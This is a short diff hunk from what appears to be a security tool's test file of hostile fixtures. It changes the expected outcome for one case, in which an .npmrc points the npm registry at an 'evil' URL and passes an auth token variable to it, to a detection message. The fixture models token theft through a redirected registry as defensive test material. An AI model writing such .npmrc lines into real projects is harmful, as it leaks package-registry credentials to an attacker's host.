@@ -15,7 +15,7 @@ export const hostileFiles: [
   [
     "another registry with our variable",
     (evil) => ({ ".npmrc": `registry=${evil.url}/npm/\n//${bare(evil.url)}/npm/:_authToken=\${${variable}}\n` }),
-    null,
+    /\.npmrc: .*:_authToken names the variable of a token/,
   ],
   [
     "another registry with the variable of vouch exec",
